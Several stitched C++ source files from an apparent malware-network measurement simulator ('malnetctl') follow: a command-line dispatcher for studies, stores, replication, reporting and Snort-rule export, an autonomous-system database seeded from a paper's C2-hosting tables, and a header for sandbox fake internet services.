  if (args.has("variant")) {
    std::string spec = args.get("variant");
    double fraction = 1.0;
    if (const auto colon = spec.rfind(':'); colon != std::string::npos) {
      fraction = std::stod(spec.substr(colon + 1));
      spec.resize(colon);
    }
    cfg.base.world.variant_name = spec;
    cfg.base.world.variant_fraction = fraction;
  }
  cfg.jobs = std::stoi(args.get("jobs", "0"));
  // --jobs alone still parallelizes: the study splits into one shard per job.
  cfg.shards = std::stoi(args.get("shards", cfg.jobs > 0 ? args.get("jobs") : "1"));
  return cfg;
}

core::StudyResults run_study(const Args& args) {
  auto cfg = build_study_config(args);
  if (!args.has("store")) {
    if (args.has("resume")) {
      throw std::runtime_error("--resume requires --store");
    }
    return core::ParallelStudy(std::move(cfg)).run();
  }
  store::Store st(args.get("store"));
  auto results = store::run_store_study(std::move(cfg), st, args.has("resume"));
  const auto snap = st.metrics();
  const auto count = [&snap](const char* key) -> std::uint64_t {
    const auto it = snap.counters.find(key);
    return it == snap.counters.end() ? 0 : it->second;
  };
  std::cout << "store " << st.dir() << ": "
            << count("store.segments_written") << " segment(s) written, "
            << count("store.resume_hits") << " shard(s) resumed\n";
  return results;
}

int cmd_study(const Args& args) {
  // An explicit --log-level wins; otherwise the study narrates at info.
  if (!args.has("log-level")) util::set_log_level(util::LogLevel::kInfo);
  const auto results = run_study(args);
  if (!args.has("log-level")) util::set_log_level(util::LogLevel::kOff);
  if (args.has("save-datasets")) {
    report::save_datasets(results, args.get("save-datasets"));
    std::cout << "datasets saved to " << args.get("save-datasets") << "\n";
  }
  if (args.has("metrics-out")) {
    std::ofstream out(args.get("metrics-out"));
    if (!out) throw std::runtime_error("cannot write " + args.get("metrics-out"));
    out << results.metrics.to_json() << '\n';
    std::cout << "metrics written to " << args.get("metrics-out") << "\n";
  }
  if (args.has("trace-out")) {
    std::ofstream out(args.get("trace-out"));
    if (!out) throw std::runtime_error("cannot write " + args.get("trace-out"));
    obs::write_chrome_trace(out, results.trace);
    std::cout << "trace written to " << args.get("trace-out") << " ("
              << results.trace.size() << " events)\n";
  }
  if (args.has("profile")) {
    std::cout << results.profile.render_table();
  }
  if (!results.degraded.empty()) {
    std::cout << "degraded samples: " << results.degraded.size() << '\n';
    // --strict turns silent degradation into a failed exit for CI callers.
    if (args.has("strict")) {
      std::cerr << "strict: " << results.degraded.size()
                << " degraded sample(s)\n";
      return 3;
    }
  }
  // Every world copies the one standard AS database, so report rendering
  // does not need the (possibly sharded, already destroyed) pipelines.
  const auto asdb = asdb::AsDatabase::standard();
  if (args.has("claims")) {
    std::cout << report::render_claims(report::check_claims(results, asdb));
  } else {
    std::cout << report::table1_datasets(results) << '\n'
              << report::table3_ti_miss(results) << '\n'
              << report::figure11_ddos_types(results, asdb);
  }
  return 0;
}

int cmd_ingest(const Args& args) {
  if (!args.has("store")) usage();
  store::Store st(args.get("store"));
  if (args.positional.empty()) {
    // No artifacts given: run a study batch and ingest its merged result.
    const auto results = core::ParallelStudy(build_study_config(args)).run();
    const auto meta = st.commit(results, store::SegmentKind::kIngest, 0, 0, 1,
                                std::stoull(args.get("seed", "22")));
    std::cout << "ingested study batch as " << meta.file << " (" << meta.bytes
              << " bytes)\n";
    return 0;
  }
  for (const auto& path : args.positional) {
    const auto results = report::load_datasets(path);
    const auto meta = st.commit(results, store::SegmentKind::kIngest, 0, 0, 1, 0);
    std::cout << "ingested " << path << " as " << meta.file << " (" << meta.bytes
              << " bytes)\n";
  }
  return 0;
}

int cmd_compact(const Args& args) {
  if (!args.has("store")) usage();
  store::Store st(args.get("store"));
  const auto before = st.segments().size();
  const auto meta = st.compact();
  std::cout << "compacted " << before << " segment(s) into " << meta.file << " ("
            << meta.bytes << " bytes)\n";
  return 0;
}

/// Remote variant of `query`: same answers, same output bytes, but fetched
/// from a running `serve --listen` server over the wire protocol.
int cmd_query_remote(const Args& args) {
  const auto spec = util::parse_listen_spec(args.get("connect"));
  if (!spec) {
    std::cerr << "bad --connect '" << args.get("connect")
              << "' (want host:port)\n";
    return 2;
  }
  serve::Client client;
  if (!client.connect(spec->first, spec->second)) {
    std::cerr << "cannot connect to " << spec->first << ':' << spec->second
              << '\n';
    return 1;
  }
  std::vector<std::string> queries = args.positional;
  if (queries.empty()) queries.push_back("totals");
  for (const auto& q : queries) {
    const auto answer = client.query(q);
    if (!answer) {
      std::cerr << "query failed (connection lost or timed out)\n";
      return 1;
    }
    std::cout << *answer << '\n';
  }
  return 0;
}

int cmd_query(const Args& args) {
  if (args.has("connect")) return cmd_query_remote(args);
  if (!args.has("store")) usage();
  store::Store st(args.get("store"));
  store::QueryEngine engine(st);
  if (args.positional.empty()) {
    std::cout << engine.answer("totals") << '\n';
  } else {
    for (const auto& q : args.positional) std::cout << engine.answer(q) << '\n';
  }
  if (args.has("metrics-out")) {
    // Store-side counters (index vs payload bytes read, query count and
    // latency) — the proof that answers came from partial reads.
    std::ofstream out(args.get("metrics-out"));
    if (!out) throw std::runtime_error("cannot write " + args.get("metrics-out"));
    out << st.metrics().to_json() << '\n';
  }
  return 0;
}

/// SIGTERM/SIGINT target for `serve --listen`. request_stop() is
/// async-signal-safe (atomic store + one pipe write).
serve::Server* g_serve_server = nullptr;

extern "C" void serve_signal_handler(int) {
  if (g_serve_server != nullptr) g_serve_server->request_stop();
}

int cmd_serve(const Args& args) {
  if (!args.has("store")) usage();
  store::Store st(args.get("store"));
  if (!args.has("listen")) {
    store::serve_loop(st, std::cin, std::cout);
    return 0;
  }

  const auto spec = util::parse_listen_spec(args.get("listen"));
  if (!spec) {
    std::cerr << "bad --listen '" << args.get("listen")
              << "' (want port or host:port)\n";
    return 2;
  }
  serve::ServeConfig cfg;
  cfg.host = spec->first;
  cfg.port = spec->second;
  if (args.has("io-threads")) cfg.io_threads = std::stoi(args.get("io-threads"));
  if (args.has("idle-timeout-ms")) {
    cfg.idle_timeout_ms = std::stoi(args.get("idle-timeout-ms"));
  }
  if (args.has("slow-threshold-us")) {
    cfg.slow_threshold_us = std::stoll(args.get("slow-threshold-us"));
  }

  obs::Registry registry;
  // Admin-plane state has to outlive the server: cfg.spans is read by the
  // I/O threads, and the ring/handlers by the admin thread.
  std::optional<obs::SpanRecorder> spans;
  if (args.has("admin")) {
    spans.emplace();
    spans->set_enabled(true);
    cfg.spans = &*spans;
  }
  // With --allow-sync the same port also speaks the MSY1 replication
  // protocol: bodies the query codec rejects are routed to the sync
  // session handler, which imports/serves segments against this store.
  std::optional<sync::SessionHandler> sync_handler;
  if (args.has("allow-sync")) {
    sync_handler.emplace(st, registry);
    sync_handler->configure_slow_log(cfg.slow_log_capacity,
                                     cfg.slow_threshold_us);
    if (cfg.spans != nullptr) sync_handler->set_span_recorder(cfg.spans);
    cfg.aux_handler = [&sync_handler](util::BytesView body,
                                      const serve::AuxContext& ctx) {
      return sync_handler->handle(body, ctx.peer);
    };
    cfg.max_aux_frame_body = sync::kMaxSyncFrameBody;
  }
  serve::Server server(st, cfg, registry);
  server.start();
  g_serve_server = &server;
  std::signal(SIGTERM, serve_signal_handler);
  std::signal(SIGINT, serve_signal_handler);

  // Live introspection plane (DESIGN.md §15): /metrics /healthz /statusz
  // /slowz /tracez on a separate single-threaded HTTP endpoint; a 1 Hz
  // tick samples merged snapshots into the ring behind the windowed rates.
  std::optional<serve::AdminServer> admin;
  obs::SnapshotRing ring;
  const auto started_wall = obs::wall_now_us();
  const auto merged_snapshot = [&registry, &st] {
    auto m = registry.snapshot();
    m.merge(st.metrics());
    return m;
  };
  if (args.has("admin")) {
    const auto aspec = util::parse_listen_spec(args.get("admin"));
    if (!aspec) {
      std::cerr << "bad --admin '" << args.get("admin")
                << "' (want port or host:port)\n";
      return 2;
    }
    serve::AdminConfig acfg;
    acfg.host = aspec->first;
    acfg.port = aspec->second;
    admin.emplace(acfg, registry);
    admin->set_tick(
        [&ring, merged_snapshot] {
          ring.push(obs::wall_now_us(), merged_snapshot());
        },
        1'000);
    admin->handle("/metrics", [&ring, merged_snapshot] {
      static constexpr std::pair<const char*, std::int64_t> kWindows[] = {
          {"1s", 1'000'000}, {"10s", 10'000'000}, {"60s", 60'000'000}};
      std::vector<obs::ExpositionWindow> windows;
      for (const auto& [label, span_us] : kWindows) {
        if (auto w = ring.window(span_us)) {
          windows.emplace_back(label, std::move(*w));
        }
      }
      serve::AdminResponse resp;
      resp.body = obs::render_prometheus(merged_snapshot(), windows);
      return resp;
    });
    admin->handle("/healthz", [&st, &server] {
      const auto health = st.health();
      const bool ok = health.ok && server.running();
      serve::AdminResponse resp;
      resp.status = ok ? 200 : 503;
      resp.content_type = "text/plain; charset=utf-8";
      resp.body = std::string(ok ? "ok" : "unhealthy") + "\n" +
                  "store: " + (health.ok ? "ok" : "BAD") + " (" +
                  std::to_string(health.segments) + " segment(s))" +
                  (health.ok || health.detail.empty() ? "" : " " + health.detail) +
                  "\n" +
                  "acceptor: " + (server.running() ? "alive" : "down") + "\n" +
                  "draining: " + (server.draining() ? "yes" : "no") + "\n";
      return resp;
    });
    admin->handle("/statusz", [&st, &server, &args, started_wall] {
      std::ostringstream body;
      body << "malnetctl serve\n"
           << "build: " <<
#if defined(__VERSION__)
          __VERSION__
#else
          "unknown compiler"
#endif
           << " (" << (sizeof(void*) * 8) << "-bit)\n"
           << "uptime_s: " << (obs::wall_now_us() - started_wall) / 1'000'000
           << "\nstore: " << args.get("store") << " ("
           << st.segments().size() << " segment(s))\n"
           << "draining: " << (server.draining() ? "yes" : "no") << "\n\n"
           << "connections:\n";
      const auto conns = server.connections();
      if (conns.empty()) body << "  (none)\n";
      for (const auto& conn : conns) {
        body << "  " << conn.peer << " out_pending=" << conn.out_pending
             << " queued=" << conn.pending_responses
             << (conn.paused ? " PAUSED" : "")
             << (conn.closing ? " closing" : "")
             << " idle_ms=" << conn.idle_ms << '\n';
      }
      serve::AdminResponse resp;
      resp.content_type = "text/plain; charset=utf-8";
      resp.body = body.str();
      return resp;
    });
    admin->handle("/slowz", [&server, &sync_handler] {
      serve::AdminResponse resp;
      resp.content_type = "text/plain; charset=utf-8";
      resp.body = "# query plane\n" + server.slow_log().render_text();
      if (sync_handler) {
        resp.body += "\n# sync plane\n" + sync_handler->slow_log().render_text();
      }
      return resp;
    });
    admin->handle("/tracez", [&spans] {
      serve::AdminResponse resp;
      resp.content_type = "application/json; charset=utf-8";
      resp.body = obs::chrome_trace_json(spans->snapshot());
      return resp;
    });
    admin->start();
    std::cout << "admin on " << acfg.host << ':' << admin->port() << std::endl;
  }

  // The "serving on" line is the readiness signal scripts wait for (and
  // where an ephemeral --listen 0 port is reported).
  std::cout << "serving on " << cfg.host << ':' << server.port() << " ("
            << st.segments().size() << " segment(s)"
            << (args.has("allow-sync") ? ", sync enabled" : "") << ")"
            << std::endl;
  server.wait();  // blocks until SIGTERM/SIGINT, then drains
  g_serve_server = nullptr;
  if (admin) admin->stop();

  // Serve and store counters merged into one summary/artifact: the
  // payload_bytes_read field is the index-only-under-concurrency proof.
  auto merged = registry.snapshot();
  merged.merge(st.metrics());
  const auto count = [&merged](const char* key) -> std::uint64_t {
    const auto it = merged.counters.find(key);
    return it == merged.counters.end() ? 0 : it->second;
  };
  std::cout << "drained: requests=" << count("serve.requests")
            << " connections=" << count("serve.connections_accepted")
            << " protocol_errors=" << count("serve.protocol_errors")
            << " payload_bytes_read=" << count("store.payload_bytes_read")
            << std::endl;
  if (args.has("metrics-out")) {
    std::ofstream out(args.get("metrics-out"));
    if (!out) throw std::runtime_error("cannot write " + args.get("metrics-out"));
    out << merged.to_json() << '\n';
  }
  return 0;
}

/// `sync push|pull --store D --connect H:P` — replicate segments between
/// the local store and a `serve --allow-sync` server. Exit 0 on a
/// converged sync, 1 on any failure (both manifests stay valid either way).
int cmd_sync(const Args& args) {
  if (args.positional.empty() || !args.has("store") || !args.has("connect")) {
    usage();
  }
  const auto& direction = args.positional[0];
  if (direction != "push" && direction != "pull") usage();
  const auto spec = util::parse_listen_spec(args.get("connect"));
  if (!spec) {
    std::cerr << "bad --connect '" << args.get("connect")
              << "' (want host:port)\n";
    return 2;
  }
  store::Store st(args.get("store"));
  obs::Registry registry;
  sync::SyncClient client(st, &registry);
  // --trace-out stamps every rpc with one trace id (MSY2 frames); the
  // server records matching spans, and with --admin pointing at its admin
  // endpoint both sides land in a single merged Chrome trace.
  std::uint64_t trace_id = 0;
  if (args.has("trace-out")) {
    trace_id = static_cast<std::uint64_t>(obs::wall_now_us()) ^
               (static_cast<std::uint64_t>(::getpid()) << 48);
    if (trace_id == 0) trace_id = 1;
    client.enable_tracing(trace_id);
  }
  if (!client.connect(spec->first, spec->second)) {
    std::cerr << "cannot connect to " << spec->first << ':' << spec->second
              << '\n';
    return 1;
  }
  const auto stats = direction == "push" ? client.push() : client.pull();
  const auto write_metrics = [&] {
    if (!args.has("metrics-out")) return;
    auto merged = registry.snapshot();
    merged.merge(st.metrics());
    std::ofstream out(args.get("metrics-out"));
    if (!out) throw std::runtime_error("cannot write " + args.get("metrics-out"));
    out << merged.to_json() << '\n';
  };
  if (!stats) {
    write_metrics();
    std::cerr << "sync " << direction
              << " failed (connection lost, protocol error, or verification "
                 "failure); the store is unchanged or grew by verified "
                 "segments only\n";
    return 1;
  }
  std::cout << "sync " << direction << ": rounds=" << stats->rounds
            << " sent=" << stats->segments_sent
            << " received=" << stats->segments_received
            << " bytes_on_wire=" << stats->bytes_on_wire
            << " bytes_saved=" << stats->bytes_saved << '\n';
  write_metrics();
  if (args.has("trace-out")) {
    std::vector<std::pair<std::string, std::string>> nodes;
    nodes.emplace_back("sync-client",
                       obs::chrome_trace_json(client.trace_events()));
    if (args.has("admin")) {
      const auto aspec = util::parse_listen_spec(args.get("admin"));
      if (!aspec) {
        std::cerr << "bad --admin '" << args.get("admin")
                  << "' (want host:port)\n";
        return 1;
      }
      const auto remote =
          serve::admin_get(aspec->first, aspec->second, "/tracez");
      if (!remote) {
        std::cerr << "cannot fetch /tracez from " << args.get("admin") << '\n';
        return 1;
      }
      nodes.emplace_back("serve", *remote);
    }
    const auto merged_trace = obs::merge_chrome_traces(nodes);
    if (!merged_trace) {
      std::cerr << "trace merge failed (malformed /tracez document?)\n";
      return 1;
    }
    write_file(args.get("trace-out"),
               util::BytesView{
                   reinterpret_cast<const std::uint8_t*>(merged_trace->data()),
                   merged_trace->size()});
    std::cout << "trace: " << args.get("trace-out")
              << " trace_id=" << obs::hex_id(trace_id) << '\n';
  }
  return 0;
}

int cmd_report(const Args& args) {
  if (args.positional.empty()) usage();
  const auto results = report::load_datasets(args.positional[0]);
  const auto asdb = asdb::AsDatabase::standard();
  std::cout << report::table1_datasets(results) << '\n'
            << report::table3_ti_miss(results) << '\n'
            << report::figure11_ddos_types(results, asdb) << '\n'
            << report::render_claims(report::check_claims(results, asdb));
  return 0;
}

int cmd_dossier(const Args& args) {
  if (args.positional.size() < 2) usage();
  const auto results = report::load_datasets(args.positional[0]);
  const auto asdb = asdb::AsDatabase::standard();
  const std::string& key = args.positional[1];
  if (const auto c2 = report::build_c2_dossier(results, asdb, key)) {
    std::cout << report::render_dossier(*c2);
    return 0;
  }
  // Accept sha prefixes for convenience.
  for (const auto& s : results.d_samples) {
    if (s.sha256.rfind(key, 0) == 0) {
      const auto sample = report::build_sample_dossier(results, s.sha256);
      if (sample) {
        std::cout << report::render_dossier(*sample);
        return 0;
      }
    }
  }
  std::cerr << "no C2 or sample matches '" << key << "'\n";
  return 1;
}

int cmd_digest(const Args& args) {
  if (args.positional.empty()) usage();
  const auto results = report::load_datasets(args.positional[0]);
  if (args.has("week")) {
    std::cout << report::render_digest(
        report::build_weekly_digest(results, std::stoi(args.get("week"))));
    return 0;
  }
  for (const auto& digest : report::build_all_digests(results)) {
    std::cout << report::render_digest(digest) << '\n';
  }
  return 0;
}

std::string hash_hex(std::uint64_t h) {
  std::ostringstream out;
  out << std::hex << std::setfill('0') << std::setw(16) << h;
  return out.str();
}

/// `profile check` validates family-profile files the way a study's
/// --profiles load would, with line/field context; `profile dump` writes
/// the builtins in their canonical pretty-printed form (the committed
/// profiles/ directory is exactly such a dump plus variants).
int cmd_profile(const Args& args) {
  if (args.positional.empty()) usage();
  const auto& sub = args.positional[0];
  if (sub == "check") {
    if (args.positional.size() < 2) usage();
    int bad = 0;
    for (std::size_t i = 1; i < args.positional.size(); ++i) {
      const auto& path = args.positional[i];
      util::Bytes bytes;
      try {
        bytes = read_file(path);
      } catch (const std::exception& e) {
        std::cerr << path << ": " << e.what() << '\n';
        ++bad;
        continue;
      }
      profile::ParseIssue issue;
      const auto parsed = profile::parse_profile(
          std::string_view(reinterpret_cast<const char*>(bytes.data()),
                           bytes.size()),
          &issue);
      if (!parsed) {
        std::cerr << path << ": " << issue.render() << '\n';
        ++bad;
        continue;
      }
      std::cout << path << ": ok\n"
                << "  name: " << parsed->name << " (family "
                << proto::to_string(parsed->id) << ")\n"
                << "  framing: " << profile::to_string(parsed->framing)
                << ", topology: " << profile::to_string(parsed->topology)
                << ", commands: " << parsed->commands.size() << '\n'
                << "  hash: " << hash_hex(parsed->content_hash()) << '\n';
      if (const auto* b = profile::Registry::builtin().by_name(parsed->name)) {
        std::cout << "  builtin '" << parsed->name << "': "
                  << (*b == *parsed ? "identical (studies stay bit-identical)"
                                    : "OVERRIDDEN (studies will differ)")
                  << '\n';
      }
    }
    return bad > 0 ? 2 : 0;
  }
  if (sub == "dump") {
    const std::string dir =
        args.positional.size() > 1 ? args.positional[1] : "profiles";
    std::filesystem::create_directories(dir);
    for (const auto* p : profile::Registry::builtin().all()) {
      std::string name = p->name;
      for (auto& c : name) c = static_cast<char>(std::tolower(c));
      const auto path = dir + "/" + name + ".json";
      std::ofstream out(path);
      if (!out) throw std::runtime_error("cannot write " + path);
      out << p->to_pretty_json();
      std::cout << "wrote " << path << " (hash "
                << hash_hex(p->content_hash()) << ")\n";
    }
    return 0;
  }
  usage();
}

int cmd_json_check(const Args& args) {
  if (args.positional.empty()) usage();
  const auto& path = args.positional[0];
  const auto bytes = read_file(path);
  const std::string text(bytes.begin(), bytes.end());
  const auto doc = obs::json::parse(text);
  if (!doc) {
    std::cerr << path << ": invalid JSON\n";
    return 1;
  }
  int missing = 0;
  for (std::size_t i = 1; i < args.positional.size(); ++i) {
    if (doc->at_path(args.positional[i]) == nullptr) {
      std::cerr << path << ": missing key " << args.positional[i] << '\n';
      ++missing;
    }
  }
  if (missing > 0) return 1;
  std::cout << path << ": ok\n";
  return 0;
}

int cmd_export_rules(const Args& args) {
  const auto results = run_study(args);
  const auto rules = report::export_snort_rules(results);
  (void)report::compile_exported_rules(results);  // self-check before shipping
  const auto out = args.get("out", "malnet.rules");
  std::ofstream(out) << rules;
  std::cout << "wrote " << out << " ("
            << report::build_blocklist(results).size() << " IoCs)\n";
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) usage();
  const std::string cmd = argv[1];
  const Args args = parse_args(argc, argv, 2);
  if (args.has("log-level")) {
    const auto level = util::log_level_from_string(args.get("log-level"));
    if (!level) {
      std::cerr << "bad --log-level '" << args.get("log-level")
                << "' (want debug|info|warn|error|off)\n";
      return 2;
    }
    util::set_log_level(*level);
  }
  try {
    if (cmd == "forge") return cmd_forge(args);
    if (cmd == "inspect") return cmd_inspect(args);
    if (cmd == "analyze") return cmd_analyze(args);
    if (cmd == "study") return cmd_study(args);
    if (cmd == "ingest") return cmd_ingest(args);
    if (cmd == "compact") return cmd_compact(args);
    if (cmd == "query") return cmd_query(args);
    if (cmd == "serve") return cmd_serve(args);
    if (cmd == "sync") return cmd_sync(args);
    if (cmd == "report") return cmd_report(args);
    if (cmd == "dossier") return cmd_dossier(args);
    if (cmd == "digest") return cmd_digest(args);
    if (cmd == "export-rules") return cmd_export_rules(args);
    if (cmd == "profile") return cmd_profile(args);
    if (cmd == "json-check") return cmd_json_check(args);
  } catch (const std::exception& e) {
    std::cerr << "error: " << e.what() << '\n';
    return 1;
  }
  usage();
}
