// Autonomous System database.
//
// Maps IPv4 addresses to AS metadata (ASN, org name, country, business
// type, anti-DDoS offering, crypto payment acceptance, gaming focus). The
// standard database is seeded with the paper's Table 2 top-10 C2-hosting
// ASes, the large cloud ASes named in Appendix A (Google, Amazon, Alibaba),
// the DDoS-victim AS population of §5.3, and a generated long tail so the
// D-C2s dataset spreads over ~128 ASes as in Figure 13.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "net/ipv4.hpp"
#include "util/rng.hpp"

namespace malnet::asdb {

enum class AsType { kHosting, kIsp, kBusiness };

[[nodiscard]] std::string to_string(AsType t);

struct AsInfo {
  std::uint32_t asn = 0;
  std::string name;
  std::string country;  // ISO 3166-1 alpha-2
  AsType type = AsType::kHosting;
  bool anti_ddos = false;
  bool crypto_pay = false;
  bool gaming = false;       // specialised in the gaming industry (§5.3)
  bool top100_size = false;  // among the top-100 ASes by advertised IPv4 space
  std::vector<net::Subnet> prefixes;
};

class AsDatabase {
 public:
  AsDatabase() = default;

  /// Registers an AS. Prefixes must not overlap an existing AS; ASN must be
  /// unique. Throws std::invalid_argument otherwise.
  void add(AsInfo info);

  [[nodiscard]] const AsInfo* by_asn(std::uint32_t asn) const;
  [[nodiscard]] const AsInfo* by_ip(net::Ipv4 ip) const;
  [[nodiscard]] const std::vector<AsInfo>& all() const { return ases_; }
  [[nodiscard]] std::size_t size() const { return ases_.size(); }

  /// Draws a usable host address inside the AS (skips network/broadcast).
  [[nodiscard]] net::Ipv4 random_ip_in(std::uint32_t asn, util::Rng& rng) const;

  /// The ASNs of the paper's Table 2 (top-10 C2 hosting ASes), in table order.
  [[nodiscard]] static const std::vector<std::uint32_t>& table2_asns();

  /// Builds the standard study database (see file comment).
  [[nodiscard]] static AsDatabase standard();

 private:
  std::vector<AsInfo> ases_;
};

}  // namespace malnet::asdb
