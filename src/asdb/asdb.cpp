#include "asdb/asdb.hpp"

#include <stdexcept>

namespace malnet::asdb {

std::string to_string(AsType t) {
  switch (t) {
    case AsType::kHosting: return "Hosting";
    case AsType::kIsp: return "ISP";
    case AsType::kBusiness: return "Business";
  }
  return "?";
}

void AsDatabase::add(AsInfo info) {
  if (info.prefixes.empty()) throw std::invalid_argument("AsDatabase::add: no prefixes");
  if (by_asn(info.asn) != nullptr) {
    throw std::invalid_argument("AsDatabase::add: duplicate ASN " +
                                std::to_string(info.asn));
  }
  for (const auto& p : info.prefixes) {
    for (const auto& existing : ases_) {
      for (const auto& q : existing.prefixes) {
        if (p.contains(q.base) || q.contains(p.base)) {
          throw std::invalid_argument("AsDatabase::add: overlapping prefix " +
                                      net::to_string(p));
        }
      }
    }
  }
  ases_.push_back(std::move(info));
}

const AsInfo* AsDatabase::by_asn(std::uint32_t asn) const {
  for (const auto& a : ases_) {
    if (a.asn == asn) return &a;
  }
  return nullptr;
}

const AsInfo* AsDatabase::by_ip(net::Ipv4 ip) const {
  for (const auto& a : ases_) {
    for (const auto& p : a.prefixes) {
      if (p.contains(ip)) return &a;
    }
  }
  return nullptr;
}

net::Ipv4 AsDatabase::random_ip_in(std::uint32_t asn, util::Rng& rng) const {
  const AsInfo* info = by_asn(asn);
  if (info == nullptr) throw std::invalid_argument("random_ip_in: unknown ASN");
  const auto& prefix =
      info->prefixes[static_cast<std::size_t>(rng.uniform(0, info->prefixes.size() - 1))];
  // Skip offset 0 (network) and the top address (broadcast-ish).
  const std::uint32_t offset =
      static_cast<std::uint32_t>(rng.uniform(1, prefix.size() - 2));
  return prefix.host(offset);
}

const std::vector<std::uint32_t>& AsDatabase::table2_asns() {
  static const std::vector<std::uint32_t> kAsns{
      36352, 211252, 14061, 53667, 202306, 399471, 16276, 44812, 139884, 50673};
  return kAsns;
}

namespace {

/// Sequential /16 allocator over synthetic space starting at 60.0.0.0.
class PrefixAllocator {
 public:
  [[nodiscard]] net::Subnet next16() {
    const net::Subnet s{net::Ipv4{base_ + (count_ << 16)}, 16};
    ++count_;
    if (count_ > 0x2000) throw std::logic_error("PrefixAllocator exhausted");
    return s;
  }

 private:
  std::uint32_t base_ = net::Ipv4{60, 0, 0, 0}.value;
  std::uint32_t count_ = 0;
};

}  // namespace

AsDatabase AsDatabase::standard() {
  AsDatabase db;
  PrefixAllocator alloc;

  auto add = [&](std::uint32_t asn, std::string name, std::string country, AsType type,
                 bool anti_ddos, bool crypto, bool gaming, bool top100, int n16) {
    AsInfo info;
    info.asn = asn;
    info.name = std::move(name);
    info.country = std::move(country);
    info.type = type;
    info.anti_ddos = anti_ddos;
    info.crypto_pay = crypto;
    info.gaming = gaming;
    info.top100_size = top100;
    for (int i = 0; i < n16; ++i) info.prefixes.push_back(alloc.next16());
    db.add(std::move(info));
  };

  // --- Table 2: the top-10 C2-hosting ASes (paper values). ------------------
  // AS211252 (Delis LLC) publishes no information; the paper marks its
  // hosting/anti-DDoS fields N/A — we model both as false.
  add(36352, "ColoCrossing", "US", AsType::kHosting, true, false, false, false, 4);
  add(211252, "Delis LLC", "US", AsType::kHosting, false, false, false, false, 2);
  add(14061, "DigitalOcean", "US", AsType::kHosting, true, false, false, false, 4);
  add(53667, "FranTech Solutions", "LU", AsType::kHosting, true, true, false, false, 3);
  add(202306, "HOSTGLOBAL", "RU", AsType::kHosting, true, true, false, false, 2);
  add(399471, "Serverion LLC", "NL", AsType::kHosting, true, false, false, false, 2);
  add(16276, "OVH SAS", "FR", AsType::kHosting, true, false, false, false, 4);
  add(44812, "IP SERVER LLC", "RU", AsType::kHosting, true, true, false, false, 3);
  add(139884, "Apeiron Global", "IN", AsType::kHosting, false, false, false, false, 2);
  add(50673, "Serverius", "NL", AsType::kHosting, true, false, false, false, 2);

  // --- Appendix A: large clouds that also appear with C2 activity. ----------
  add(15169, "Google LLC", "US", AsType::kBusiness, true, false, false, true, 4);
  add(16509, "Amazon.com Inc", "US", AsType::kBusiness, true, false, false, true, 4);
  add(37963, "Hangzhou Alibaba Advertising", "CN", AsType::kBusiness, true, false,
      false, true, 4);

  // --- §5.3 DDoS victim population: ISPs, hosters and businesses across 11
  // countries; ~18% gaming-specialised, including Roblox and NFOservers.
  add(22697, "Roblox", "US", AsType::kBusiness, true, false, true, false, 2);
  add(32374, "NFOservers", "US", AsType::kHosting, true, false, true, false, 2);
  add(9009, "GSL Networks Gaming", "GB", AsType::kHosting, true, false, true, false, 2);
  add(49544, "i3D.net Gaming", "NL", AsType::kHosting, true, false, true, false, 2);
  add(3320, "Deutsche Telekom", "DE", AsType::kIsp, false, false, false, true, 3);
  add(3215, "Orange S.A.", "FR", AsType::kIsp, false, false, false, true, 3);
  add(1136, "KPN B.V.", "NL", AsType::kIsp, false, false, false, false, 2);
  add(2856, "British Telecom", "GB", AsType::kIsp, false, false, false, true, 3);
  add(577, "Bell Canada", "CA", AsType::kIsp, false, false, false, false, 2);
  add(8359, "MTS PJSC", "RU", AsType::kIsp, false, false, false, false, 2);
  add(28573, "Claro S.A.", "BR", AsType::kIsp, false, false, false, true, 3);
  add(4713, "NTT Communications", "JP", AsType::kIsp, false, false, false, true, 3);
  add(1221, "Telstra", "AU", AsType::kIsp, false, false, false, false, 2);
  add(3301, "Telia Sverige", "SE", AsType::kIsp, false, false, false, false, 2);
  add(7922, "Comcast Cable", "US", AsType::kIsp, false, false, false, true, 4);
  add(24940, "Hetzner Online", "DE", AsType::kHosting, true, false, false, false, 3);
  add(20473, "The Constant Company", "US", AsType::kHosting, true, true, false, false, 2);
  add(63949, "Akamai Linode", "US", AsType::kHosting, true, false, false, false, 2);
  add(51167, "Contabo GmbH", "DE", AsType::kHosting, true, false, false, false, 2);
  add(35916, "MULTACOM", "US", AsType::kHosting, true, true, false, false, 2);
  add(42708, "GleSYS AB", "SE", AsType::kHosting, true, false, false, false, 1);
  add(29182, "JSC IT Hoster", "RU", AsType::kHosting, true, true, false, false, 2);
  add(60068, "Datacamp Limited", "CZ", AsType::kHosting, true, false, false, false, 2);

  // --- Long tail: enough additional ASes to reach the ~128 C2-hosting ASes
  // of Figure 13. Deterministic synthetic names across a country mix.
  static const char* kTailCountries[] = {"US", "DE", "NL", "RU", "FR", "GB", "CN",
                                         "BR", "IN", "CA", "SG", "PL", "UA", "TR"};
  for (int i = 0; i < 118; ++i) {
    const auto country = kTailCountries[i % 14];
    const AsType type = (i % 3 == 0) ? AsType::kIsp : AsType::kHosting;
    add(64512u + static_cast<std::uint32_t>(i),
        "TailNet-" + std::to_string(i), country, type,
        /*anti_ddos=*/i % 2 == 0, /*crypto=*/i % 5 == 0, /*gaming=*/false,
        /*top100=*/false, 1);
  }

  return db;
}

}  // namespace malnet::asdb
