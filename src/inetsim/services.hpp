// InetSim-style fake service hosts.
//
// §2.6(a): "If a sophisticated binary detects that the Internet is not
// available, we deploy InetSim to simulate services like DNS and http."
// These actors play that role inside the sandbox's fake internet, and the
// BannerHost also populates probing subnets with benign services that the
// prober must recognise and skip (§2.6 probing ethics).
#pragma once

#include <string>

#include "dns/server.hpp"
#include "inetsim/http.hpp"
#include "sim/network.hpp"

namespace malnet::inetsim {

/// Wildcard DNS: resolves every name to a configurable address (typically
/// an HTTP fake on the same box). Thin wrapper over dns::DnsServer.
class FakeDns : public dns::DnsServer {
 public:
  FakeDns(sim::Network& net, net::Ipv4 addr, net::Ipv4 answer);
};

/// Fake web service: answers every request with 200 and a canned body.
class FakeHttp : public sim::Host {
 public:
  FakeHttp(sim::Network& net, net::Ipv4 addr, net::Port port = 80);

  [[nodiscard]] std::uint64_t requests_served() const { return served_; }

 private:
  std::uint64_t served_ = 0;
};

/// A benign service that greets each TCP connection with a well-known
/// banner ("Apache", "nginx", SSH, …). Probing campaigns must filter such
/// hosts out (§2.6: "we filter out hosts that present a well-known banner").
class BannerHost : public sim::Host {
 public:
